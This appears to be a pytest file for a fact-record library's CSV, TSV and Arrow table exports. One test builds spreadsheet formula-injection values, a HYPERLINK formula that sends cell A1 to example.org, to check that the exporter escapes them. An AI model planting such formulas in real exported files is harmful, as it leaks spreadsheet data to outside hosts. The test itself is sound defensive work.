"""Records as tables: CSV and TSV that run nothing, Arrow with the same columns for any records."""

import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from formats.records import everything, records
from hypothesis import given
from hypothesis import strategies as st
from sampling import examples

import factx
from factx.errors import MissingExtra
from factx.formats import FORMATS, TABLES
from factx.records import FactRecord, load
from factx.records.tables import TableName

GOLD = sorted((Path(__file__).parents[2] / "fixtures").glob("*/gold.json"))
NAMES: tuple[TableName, ...] = ("statements", "quotes", "claims", "sources")


def rows(record: FactRecord, table: TableName, name: str = "csv") -> list[dict[str, str]]:
    text = "".join(FORMATS[name].texts([record], table))
    delimiter = {"csv": ",", "tsv": "\t"}[name]
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_a_quote_with_its_offsets_and_names(name: str) -> None:
    record = everything()
    first, second, *_ = rows(record, "quotes", name)
    assert first["source_ids"] == "s1; s2"
    assert first["source_names"] == "Ana Ruiz; +aides"
    assert (first["quote_id"], first["attribution_id"]) == ("q1", "a1")
    assert (second["quote_id"], second["attribution_id"]) == ("q1", "a2")
    spans = [tuple(map(int, each.split("-"))) for each in first["spans"].split("; ")]
    text = record.article.get_text()
    assert " ... ".join(text[start:end] for start, end in spans) == first["quote"]
    assert (int(first["start"]), int(first["end"])) == (spans[0][0], spans[-1][1])
    assert (first["negated"], second["negated"], first["when_value"]) == (
        "true",
        "false",
        "2026-05-03",
    )


def test_a_claim_and_a_source() -> None:
    claim, by_another = rows(everything(), "claims")
    assert claim["claim"] == "Five millimetres of rain fell\non cafés."
    assert (claim["attribution_id"], claim["factuality"], claim["standing"]) == (
        "",
        "Uu",
        "background",
    )
    assert (claim["reports_id"], claim["checks"], claim["rank"]) == ("a3", "figure; contested", "3")
    assert (claim["times"], claim["time_values"]) == ("3 May; rains", "2026-05-03; ")
    assert by_another["attribution_id"] == "a5"
    assert [by_another[name] for name in ("standing", "reports_id", "checks", "rank")] == (
        ["", "", "", "0"]
    )
    source, other = rows(everything(), "sources")
    assert (source["name"], source["forms"], source["quotes"]) == ("Ana Ruiz", "name; pronoun", "1")
    assert (other["name"], other["quotes"]) == ("'+aides", "2")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(begin: str) -> None:
    """Words of an article, or a name made up by a model, must not run in a spreadsheet."""
    words = f'{begin}HYPERLINK("http://example.org/"&A1,"x")'
    record = everything()
    source = record.sources[0].model_copy(update={"name": words})
    made = record.model_copy(update={"sources": (source, *record.sources[1:])})
    for name in ("csv", "tsv"):
        assert rows(made, "sources", name)[0]["name"] == f"'{words}"
        assert rows(made, "quotes", name)[0]["source_names"].startswith(f"'{begin}HYPERLINK")


@given(record=records(), table=st.sampled_from(NAMES), name=st.sampled_from(["csv", "tsv"]))
@examples(100)
def test_a_reader_of_csv_gets_every_cell_back(
    record: FactRecord, table: TableName, name: str
) -> None:
    """Whatever line breaks, quotation marks and delimiters are in the text."""
    found = rows(record, table, name)
    made = list(TABLES[table].rows(record))
    assert len(found) == len(made)
    for row, values in zip(found, made, strict=True):
        assert list(row) == [column.name for column in TABLES[table].columns]
        for column in TABLES[table].columns:
            if column.kind == "text":
                assert row[column.name].removeprefix("'") == (
                    values[column.name] or ""
                ).removeprefix("'")


@pytest.mark.parametrize("table", NAMES)
def test_an_arrow_table_has_a_row_each_and_the_types_of_its_columns(table: TableName) -> None:
    found = [load(path.read_bytes()) for path in GOLD]
    made: Any = factx.to_table(iter(found), table)
    sizes = {
        "statements": sum(len(one.sources) or 1 for r in found for one in r.attributions),
        "quotes": sum(len(record.attributions) for record in found),
        "claims": sum(len(record.claims) for record in found),
        "sources": sum(len(record.sources) for record in found),
    }
    assert made.num_rows == sizes[table]
    assert made.column_names == [column.name for column in TABLES[table].columns]
    texts = {record.article.id: record.article.get_text() for record in found}
    for row in made.to_pylist() if table != "statements" else ():
        assert row["spans"]
        for span in row["spans"]:
            assert texts[row["article_id"]][span["start"] : span["end"]] == span["text"]


def test_a_table_of_no_records_has_the_same_columns() -> None:
    full: Any = factx.to_table([everything()])
    empty: Any = factx.to_table([])
    assert (empty.num_rows, empty.schema) == (0, full.schema)


def test_a_table_that_there_is_not() -> None:
    with pytest.raises(ValueError, match="it is one of statements, quotes, claims, sources"):
        factx.to_table([], "facts")  # pyright: ignore[reportArgumentType] -- the test's subject


def test_parquet_follows(tmp_path: Path) -> None:
    parquet: Any = pytest.importorskip("pyarrow.parquet")
    table: Any = factx.to_table([everything()], "claims")
    parquet.write_table(table, tmp_path / "claims.parquet")
    assert parquet.read_table(tmp_path / "claims.parquet") == table


def test_without_the_extra_the_error_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingExtra, match=r'pip install "factx\[arrow\]"'):
        factx.to_table([])


def test_arrow_is_imported_for_a_table_alone() -> None:
    code = "import factx.formats, sys; sys.exit('pyarrow' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
